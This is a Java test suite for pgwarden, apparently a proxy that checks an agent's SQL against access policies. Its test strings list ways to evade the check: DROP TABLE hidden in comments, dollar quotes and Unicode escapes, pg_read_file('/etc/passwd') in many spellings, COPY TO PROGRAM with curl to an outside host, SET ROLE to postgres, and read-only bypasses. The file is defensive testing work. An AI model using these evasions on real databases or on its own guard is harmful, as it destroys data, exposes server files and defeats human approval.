package dev.pgwarden.sidecar.sql;

import static dev.pgwarden.sidecar.sql.TestPolicies.READ_ONLY;
import static dev.pgwarden.sidecar.sql.TestPolicies.READ_WRITE;
import static dev.pgwarden.sidecar.sql.TestPolicies.decideQuery;
import static org.assertj.core.api.Assertions.assertThat;

import dev.pgwarden.api.v1alpha1.Action;
import dev.pgwarden.api.v1alpha1.StatementKind;
import dev.pgwarden.sidecar.policy.StatementPolicy;
import dev.pgwarden.sidecar.policy.Verdict;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Ways an agent might dress up a statement so that pgwarden decides it more mildly than the
 * server will run it. Every Query goes through the splitter, the classifier and the policy, and
 * a multi-statement Query gets the strictest verdict of its parts, as in the proxy.
 */
class StatementEvasionTest {
    private static final String SERVER_FILES = "pgwarden:server-files";
    private static final String READ_ONLY_RULE = "access.mode=ReadOnly";

    private static void expect(StatementPolicy policy, String query, Action action, String rule) {
        Verdict v = decideQuery(policy, query);
        assertThat(v.action()).as("action for %s (%s)", query, v.reason()).isEqualTo(action);
        if (rule != null) {
            assertThat(v.rule()).as("rule for %s", query).isEqualTo(rule);
        }
    }

    // ------------------------------------------------------------------ comments, case, quoting

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/* */ DROP TABLE t",
                "/* harmless */DROP TABLE t",
                "-- just a select\nDROP TABLE t",
                "/* outer /* inner */ still a comment */ DROP TABLE t",
                "dRoP tAbLe t",
                "DROP TABLE \"Users\"",
                "DROP /* hidden */ TABLE -- x\n t",
                "SELECT 1 --\n; DROP TABLE t",
                "SELECT 1 /* /* */ */; DROP TABLE t",
            })
    void commentsCaseAndQuotingDoNotHideADrop(String query) {
        expect(READ_WRITE, query, Action.RequireApproval, "destructive-ddl");
        expect(READ_ONLY, query, Action.Deny, READ_ONLY_RULE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT 1 /* ; DROP TABLE t */",
                "SELECT 1 -- ; DROP TABLE t",
                "SELECT 1 /* /* */ ; DROP TABLE t */",
                "SELECT 'x; DROP TABLE t'",
                "SELECT \"a; DROP TABLE t\" FROM u",
            })
    void aDropInsideACommentOrLiteralIsNotAStatement(String query) {
        assertThat(StatementSplitter.split(query)).hasSize(1);
        expect(READ_WRITE, query, Action.Allow, null);
        expect(READ_ONLY, query, Action.Allow, null);
    }

    @Test
    void aKeywordSplitByACommentIsNotTheKeyword() {
        // PostgreSQL reads "DR/**/OP" as two words: a syntax error, which must not pass as allowed.
        expect(READ_WRITE, "DR/**/OP TABLE t", Action.RequireApproval, "onUnparseable");
        expect(READ_WRITE, "\"DROP\" TABLE t", Action.RequireApproval, "onUnparseable");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT pg_read_file('/etc/passwd')",
                "SELECT PG_READ_FILE('/etc/passwd')",
                "SELECT \"pg_read_file\"('/etc/passwd')",
                "SELECT pg_catalog.pg_read_file('/etc/passwd')",
                "SELECT \"pg_catalog\".\"pg_read_file\"('/etc/passwd')",
                "SELECT pg_catalog . pg_read_file /* x */ ('/etc/passwd')",
                "SELECT/**/pg_read_file('/etc/passwd')",
                "SELECT U&\"\\0070g_read_file\"('/etc/passwd')",
                "SELECT U&\"pg!005fread!005ffile\" UESCAPE '!' ('/etc/passwd')",
                "SELECT U&\"pg\\+00005Fread_file\"('/etc/passwd')",
            })
    void spellingsOfADangerousFunctionAreTheFunction(String query) {
        expect(READ_WRITE, query, Action.Deny, SERVER_FILES);
        expect(READ_ONLY, query, Action.Deny, SERVER_FILES);
    }

    // ------------------------------------------------------------------ dollar quoting and strings

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT $$DROP TABLE t$$",
                "SELECT $$; DROP TABLE t; $$",
                "SELECT $tag$ $$ ; DROP TABLE t; $$ $tag$",
                "SELECT $a$ $b$ ; DROP TABLE t $b$ $a$",
                "SELECT E'\\'; DROP TABLE t; --'",
                "SELECT 'it''s; DROP TABLE t'",
                "SELECT U&'\\0027; DROP TABLE t'",
            })
    void aDropInsideADollarOrEscapedStringIsALiteral(String query) {
        assertThat(StatementSplitter.split(query)).hasSize(1);
        expect(READ_WRITE, query, Action.Allow, "defaultAction");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT $a$x$a$; DROP TABLE t",
                "SELECT $$x$$; DROP TABLE t",
                // Standard strings: the backslash is an ordinary character and the quote closes the string.
                "SELECT '\\'; DROP TABLE t; --'",
                "SELECT e'\\\\'; DROP TABLE t",
            })
    void aDropAfterTheLiteralEndsIsAStatement(String query) {
        expect(READ_WRITE, query, Action.RequireApproval, "destructive-ddl");
    }

    @Test
    void aFunctionIsJudgedWhenCreatedByWhatItsBodyDoes() {
        // Creating it runs nothing, but once it exists any statement may run it: it is judged now.
        String fn = "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $body$ BEGIN DROP TABLE t; END $body$";
        expect(READ_WRITE, fn, Action.RequireApproval, "destructive-ddl");
        expect(READ_ONLY, fn, Action.Deny, READ_ONLY_RULE);
    }

    // ------------------------------------------------------------------ several statements in one Query

    @Test
    void aQueryGetsTheStrictestVerdictOfItsStatements() {
        expect(READ_WRITE, "SELECT 1; DROP TABLE t", Action.RequireApproval, "destructive-ddl");
        expect(READ_WRITE, "SELECT 1; GRANT SELECT ON t TO x; SELECT 2", Action.Deny, "privileges");
        expect(READ_WRITE, "DROP TABLE t; SELECT pg_read_file('x')", Action.Deny, SERVER_FILES);
        expect(READ_WRITE, "BEGIN; DELETE FROM t; COMMIT", Action.RequireApproval, "unbounded-writes");
        expect(READ_ONLY, "BEGIN; DELETE FROM t WHERE id = 1; COMMIT", Action.Deny, READ_ONLY_RULE);
        expect(READ_ONLY, "SELECT 1; SELECT 2", Action.Allow, null);
    }

    @Test
    void theSplitterReadsIdentifiersAndDollarTagsAsTheServerDoes() {
        // The server reads "x\u20ac$a$" as one identifier (every character from 0x80 up is an identifier
        // character), so no dollar quote opens there and the DROP is a statement of its own.
        String hidden = "SELECT 1 AS x\u20ac$a$; DROP TABLE t; SELECT 1 AS y\u20ac$a$";
        assertThat(StatementSplitter.split(hidden)).hasSize(3);
        expect(READ_WRITE, hidden, Action.RequireApproval, "destructive-ddl");
        // ... whereas "$\u20ac$" is a dollar-quote tag.
        String quoted = "SELECT $\u20ac$; DROP TABLE t; $\u20ac$";
        assertThat(StatementSplitter.split(quoted)).hasSize(1);
        expect(READ_WRITE, quoted, Action.Allow, null);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT 1; DROP TABLE t",
                "SELECT 1 AS x\u20ac$a$; DROP TABLE t; SELECT 1 AS y\u20ac$a$",
                "DO $$ BEGIN END $$; DROP TABLE t",
                "CREATE FUNCTION g() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END; DROP TABLE t"
            })
    void textTheClassifierReadsAsSeveralStatementsIsUnparseable(String text) {
        // Should the splitter ever disagree with the lexer, the classifier must not judge the first
        // statement alone (JSqlParser stops at the first semicolon).
        Classification c = StatementClassifier.classify(text);
        assertThat(c.kind()).isEqualTo(StatementKind.UNPARSEABLE);
        assertThat(c.problem()).contains("more than one statement");
        assertThat(StatementClassifier.classify("SELECT 1;").kind()).isEqualTo(StatementKind.SELECT);
    }

    // ------------------------------------------------------------------ PREPARE / EXECUTE

    private static Map<String, List<Classification>> prepared(String name, String... prepares) {
        return Map.of(
                name, Stream.of(prepares).map(StatementClassifier::classify).toList());
    }

    @Test
    void executeIsDecidedByThePreparedBody() {
        Map<String, List<Classification>> bodies = prepared("x", "PREPARE x AS DELETE FROM t");
        Verdict rw = decideQuery(READ_WRITE, "EXECUTE x", bodies);
        assertThat(rw.action()).isEqualTo(Action.RequireApproval);
        assertThat(rw.rule()).isEqualTo("unbounded-writes");
        assertThat(decideQuery(READ_ONLY, "EXECUTE x", bodies).action()).isEqualTo(Action.Deny);
        // Unquoted names fold to lower case, as the server folds them.
        assertThat(decideQuery(READ_WRITE, "execute X", bodies).action()).isEqualTo(Action.RequireApproval);
        assertThat(decideQuery(READ_WRITE, "EXPLAIN ANALYZE EXECUTE x", bodies).action())
                .isEqualTo(Action.RequireApproval);
        assertThat(decideQuery(READ_WRITE, "EXECUTE x", prepared("x", "PREPARE x AS SELECT 1"))
                        .action())
                .isEqualTo(Action.Allow);
    }

    @Test
    void aNameRePreparedInTheSessionCountsEveryBody() {
        Map<String, List<Classification>> bodies = prepared("x", "PREPARE x AS SELECT 1", "PREPARE x AS TRUNCATE t");
        // TRUNCATE cannot be prepared; the body above is what a failed PREPARE would leave. Any body counts.
        assertThat(decideQuery(READ_WRITE, "EXECUTE x", bodies).action()).isEqualTo(Action.RequireApproval);
    }

    @Test
    void prepareIsDecidedByItsBody() {
        // PREPARE runs nothing: what only needs approval is asked for at EXECUTE ...
        expect(READ_WRITE, "PREPARE x AS DELETE FROM t", Action.Allow, "prepare");
        // ... but what is denied is denied at once.
        expect(READ_WRITE, "PREPARE x (text) AS SELECT pg_read_file($1)", Action.Deny, SERVER_FILES);
        expect(READ_ONLY, "PREPARE x AS DELETE FROM t WHERE id = $1", Action.Deny, READ_ONLY_RULE);
    }

    @Test
    void executeOfAnUnknownNameIsUnclassifiable() {
        expect(READ_WRITE, "EXECUTE nobody_prepared_this(1)", Action.RequireApproval, "onUnparseable");
        expect(READ_ONLY, "EXECUTE nobody_prepared_this", Action.RequireApproval, "onUnparseable");
        // The proxy records a PREPARE's body when it runs; within one Query the EXECUTE is still unknown.
        expect(READ_WRITE, "PREPARE y AS DELETE FROM t; EXECUTE y", Action.RequireApproval, null);
    }

    // ------------------------------------------------------------------ data-modifying statements inside others

    @Test
    void aDataModifyingCteIsThatWrite() {
        String q = "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d";
        Classification c = StatementClassifier.classify(q);
        assertThat(c.effects()).contains(StatementKind.DELETE);
        assertThat(c.unbounded()).isTrue();
        expect(READ_WRITE, q, Action.RequireApproval, "unbounded-writes");
        expect(READ_ONLY, q, Action.Deny, READ_ONLY_RULE);
        expect(READ_WRITE, "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", Action.Allow, null);
        expect(
                READ_WRITE,
                "WITH u AS (UPDATE t SET a = 1 RETURNING *) INSERT INTO log SELECT * FROM u",
                Action.RequireApproval,
                "unbounded-writes");
        expect(
                READ_WRITE,
                "CREATE TABLE keep AS WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
                Action.RequireApproval,
                "unbounded-writes");
    }

    @Test
    void copyOfADeleteIsTheDelete() {
        expect(READ_WRITE, "COPY (DELETE FROM t RETURNING *) TO STDOUT", Action.RequireApproval, "unbounded-writes");
        expect(READ_ONLY, "COPY (DELETE FROM t WHERE id = 1 RETURNING *) TO STDOUT", Action.Deny, READ_ONLY_RULE);
        expect(READ_ONLY, "COPY (SELECT * FROM t) TO STDOUT", Action.Allow, null);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "COPY t TO PROGRAM 'curl -T - http://x'",
                "COPY t FROM PROGRAM 'id'",
                "COPY (SELECT 1) TO PROGRAM 'sh -c x'",
                "COPY t TO /* where */ PROGRAM 'x'",
                "copy t to program 'x'",
            })
    void copyWithAServerProgramIsDenied(String query) {
        expect(READ_WRITE, query, Action.Deny, "pgwarden:server-programs");
        expect(READ_ONLY, query, Action.Deny, "pgwarden:server-programs");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "COPY t TO '/tmp/t.csv'",
                "COPY t FROM '/etc/passwd'",
                "COPY t FROM 'stdin'",
                "COPY (SELECT * FROM t) TO '/var/lib/postgresql/x' WITH (FORMAT csv)",
                "COPY t (a, b) FROM E'/tmp/x' WITH (FORMAT binary)",
            })
    void copyWithAServerFileIsDenied(String query) {
        expect(READ_WRITE, query, Action.Deny, SERVER_FILES);
        expect(READ_ONLY, query, Action.Deny, SERVER_FILES);
    }

    // ------------------------------------------------------------------ dangerous functions anywhere

    static Stream<Arguments> dangerousCallsAnywhere() {
        List<String[]> calls = List.of(
                new String[] {"pg_read_file('/etc/passwd')", "Deny", SERVER_FILES},
                new String[] {"lo_export(1234, '/tmp/x')", "Deny", SERVER_FILES},
                new String[] {"lo_import('/etc/passwd')", "Deny", SERVER_FILES},
                new String[] {"dblink_exec('host=h', 'drop table t')", "RequireApproval", "pgwarden:other-databases"},
                new String[] {"pg_terminate_backend(4242)", "RequireApproval", "pgwarden:server-control"},
                // set_config of a setting named plainly is judged as the SET it is: SET ROLE is denied.
                new String[] {"set_config('role', 'postgres', false)", "Deny", "pgwarden:identity"},
                new String[] {"set_config(current_user, 'postgres', false)", "RequireApproval", "pgwarden:settings"},
                new String[] {
                    "query_to_xml('select * from secrets', true, false, '')", "RequireApproval", "pgwarden:dynamic-sql"
                });
        List<String> places = List.of(
                "SELECT %s",
                "SELECT id FROM t WHERE name = %s::text",
                "SELECT * FROM %s AS f",
                "SELECT * FROM t WHERE id IN (SELECT %s)",
                "WITH c AS (SELECT %s AS v) SELECT * FROM c",
                "SELECT * FROM t ORDER BY %s",
                "SELECT * FROM t JOIN LATERAL (SELECT %s AS v) x ON true",
                "SELECT coalesce(%s::text, 'x')",
                "INSERT INTO log (v) VALUES (%s)",
                "UPDATE t SET v = %s WHERE id = 1",
                "DECLARE c CURSOR FOR SELECT %s");
        return calls.stream().flatMap(c -> places.stream().map(p -> Arguments.of(String.format(p, c[0]), c[1], c[2])));
    }

    @ParameterizedTest
    @MethodSource("dangerousCallsAnywhere")
    void dangerousFunctionsAreFoundAnywhereInAStatement(String query, String action, String rule) {
        expect(READ_WRITE, query, Action.valueOf(action), rule);
        // ReadOnly is never milder; a write there is denied whatever the call.
        Verdict ro = decideQuery(READ_ONLY, query);
        assertThat(ro.action().ordinal())
                .as(query)
                .isGreaterThanOrEqualTo(Action.valueOf(action).ordinal());
    }

    @Test
    void dangerousFunctionsInsideDoAndFunctionBodiesAreFound() {
        expect(READ_WRITE, "DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", Action.Deny, SERVER_FILES);
        expect(
                READ_WRITE,
                "DO $$ BEGIN PERFORM \"pg_catalog\".\"lo_export\"(1, '/tmp/x'); END $$",
                Action.Deny,
                SERVER_FILES);
        expect(
                READ_WRITE,
                "CREATE OR REPLACE FUNCTION f() RETURNS text LANGUAGE sql AS 'SELECT pg_read_file(''/x'')'",
                Action.Deny,
                SERVER_FILES);
        // A body spelled with escapes could hide a name from the search: not classified.
        expect(
                READ_WRITE,
                "DO E'BEGIN PERFORM pg\\u005fread_file(''/x''); END'",
                Action.RequireApproval,
                "onUnparseable");
        expect(READ_ONLY, "DO E'BEGIN PERFORM pg\\u005fread_file(''/x''); END'", Action.Deny, READ_ONLY_RULE);
    }

    // ------------------------------------------------------------------ identity, read-write and protected settings

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SET ROLE admin",
                "SET LOCAL ROLE admin",
                "SET SESSION ROLE admin",
                "SET role = 'admin'",
                "SET role TO admin",
                "set \"role\" = admin",
                "SET ROLE NONE",
                "SET SESSION AUTHORIZATION postgres",
                "SET SESSION AUTHORIZATION DEFAULT",
                "SET LOCAL SESSION AUTHORIZATION 'postgres'",
                "SET session_authorization = postgres",
            })
    void identityChangesAreDenied(String query) {
        expect(READ_WRITE, query, Action.Deny, "pgwarden:identity");
        expect(READ_ONLY, query, Action.Deny, "pgwarden:identity");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SET default_transaction_read_only = off",
                "SET SESSION default_transaction_read_only TO false",
                "SET \"default_transaction_read_only\" = 0",
                "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
                "BEGIN READ WRITE",
                "BEGIN ISOLATION LEVEL SERIALIZABLE, READ /* x */ WRITE",
                "START TRANSACTION READ WRITE",
                "SET TRANSACTION READ WRITE",
                "SET transaction_read_only = off",
                "SET LOCAL transaction_read_only TO off",
            })
    void turningTransactionsReadWriteIsDeniedUnderReadOnly(String query) {
        expect(READ_ONLY, query, Action.Deny, READ_ONLY_RULE);
        expect(READ_WRITE, query, Action.Allow, null);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SET client_encoding = 'SQL_ASCII'",
                "SET LOCAL client_encoding TO 'LATIN1'",
                "SET NAMES 'LATIN1'",
                "SET standard_conforming_strings = off",
                "SET SESSION standard_conforming_strings TO off",
            })
    void settingsTheProxyReliesOnAreDenied(String query) {
        expect(READ_WRITE, query, Action.Deny, "pgwarden:protected-settings");
        expect(READ_ONLY, query, Action.Deny, "pgwarden:protected-settings");
    }

    // ------------------------------------------------------------------ EXPLAIN ANALYZE, SELECT INTO

    @Test
    void explainAnalyzeRunsTheStatement() {
        expect(READ_WRITE, "EXPLAIN ANALYZE DELETE FROM t", Action.RequireApproval, "unbounded-writes");
        expect(READ_ONLY, "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1", Action.Deny, READ_ONLY_RULE);
        // Option values are literals, and literals never change a classification: ANALYZE 0 counts too.
        expect(READ_ONLY, "EXPLAIN (ANALYZE 0) DELETE FROM t WHERE id = 1", Action.Deny, READ_ONLY_RULE);
        expect(
                READ_WRITE,
                "EXPLAIN (ANALYZE false, COSTS off) DELETE FROM t",
                Action.RequireApproval,
                "unbounded-writes");
        expect(
                READ_WRITE,
                "EXPLAIN (FORMAT json, ANALYZE) UPDATE t SET a = 1",
                Action.RequireApproval,
                "unbounded-writes");
        // Without ANALYZE nothing runs.
        expect(READ_ONLY, "EXPLAIN DELETE FROM t", Action.Allow, null);
        expect(READ_ONLY, "EXPLAIN (COSTS off) UPDATE t SET a = 1", Action.Allow, null);
    }

    @Test
    void selectIntoCreatesATable() {
        Classification c = StatementClassifier.classify("SELECT * INTO newtable FROM t");
        assertThat(c.effects()).contains(StatementKind.CREATE);
        assertThat(c.writes()).contains("newtable");
        expect(READ_ONLY, "SELECT * INTO newtable FROM t", Action.Deny, READ_ONLY_RULE);
        expect(READ_ONLY, "SELECT a, b INTO TEMPORARY newtable FROM t WHERE x > 1", Action.Deny, READ_ONLY_RULE);
    }

    // ------------------------------------------------------------------ WHERE clauses that do not bound

    @ParameterizedTest
    @ValueSource(
            strings = {
                "WHERE true",
                "WHERE 1=1",
                "WHERE 'a'='a'",
                "WHERE id = id",
                "WHERE id > 0 OR true",
                "WHERE NOT false",
                "WHERE EXISTS (SELECT 1)",
                "WHERE x IS NOT NULL",
                "WHERE (true)",
                "WHERE 2 > 1",
                "WHERE TRUE AND TRUE",
                "WHERE id = 5 OR 1 = 1",
                "WHERE EXISTS (SELECT 1 FROM u WHERE u.flag)",
                "WHERE lower(x) = lower(x)",
                "",
                "WHERE id + 1 = id + 1",
                "WHERE NOT EXISTS (SELECT 1 FROM u)",
            })
    void unboundedUpdatesAndDeletesNeedApproval(String where) {
        for (String q : List.of("DELETE FROM t " + where, "UPDATE t SET a = 1 " + where)) {
            assertThat(StatementClassifier.classify(q).unbounded()).as(q).isTrue();
            expect(READ_WRITE, q, Action.RequireApproval, "unbounded-writes");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "WHERE id = 5",
                "WHERE id IN (SELECT id FROM u WHERE u.banned)",
                "WHERE id IN (1, 2, 3)",
                "WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.uid)",
                "WHERE NOT EXISTS (SELECT 1 FROM u WHERE u.id = t.uid)",
                "WHERE id = 5 AND true",
                "WHERE x IS NULL",
                "WHERE created_at < now() - interval '30 days'",
                "WHERE id = 1 OR id = 2",
                "WHERE name LIKE 'tmp%'",
            })
    void boundedUpdatesAndDeletesAreAllowed(String where) {
        for (String q : List.of("DELETE FROM t " + where, "UPDATE t SET a = 1 " + where)) {
            assertThat(StatementClassifier.classify(q).unbounded()).as(q).isFalse();
            expect(READ_WRITE, q, Action.Allow, "defaultAction");
        }
    }

    // ------------------------------------------------------------------ ReadOnly wins over the rules

    private static final StatementPolicy READ_ONLY_ALLOWING_WRITES = TestPolicies.fromYaml("""
      apiVersion: pgwarden.dev/v1alpha1
      kind: DatabaseAccessPolicy
      metadata: {name: misguided}
      spec:
        access: {mode: ReadOnly}
        rules:
          - name: allow-everything
            statements: [INSERT, UPDATE, DELETE, MERGE, COPY_FROM, CREATE, ALTER, DROP, TRUNCATE, CALL, DO,
                         VACUUM, ANALYZE, NOTIFY, OTHER]
            action: Allow
        defaultAction: Allow
      """, "misguided");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "DELETE FROM t WHERE id = 1",
                "INSERT INTO t VALUES (1)",
                "UPDATE t SET a = 1 WHERE id = 1",
                "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
                "COPY t FROM STDIN",
                "CREATE TABLE x (a int)",
                "ALTER TABLE t ADD COLUMN b int",
                "DROP TABLE t",
                "TRUNCATE t",
                "CALL p()",
                "DO $$ BEGIN END $$",
                "VACUUM t",
                "ANALYZE t",
                "NOTIFY c",
                "LOCK TABLE t",
                "REFRESH MATERIALIZED VIEW mv",
                "SELECT * FROM t FOR UPDATE",
                "SELECT * INTO x FROM t",
                "WITH d AS (DELETE FROM t RETURNING 1) SELECT 1",
            })
    void readOnlyDeniesEveryWriteWhateverTheRulesSay(String query) {
        expect(READ_ONLY_ALLOWING_WRITES, query, Action.Deny, READ_ONLY_RULE);
    }
}
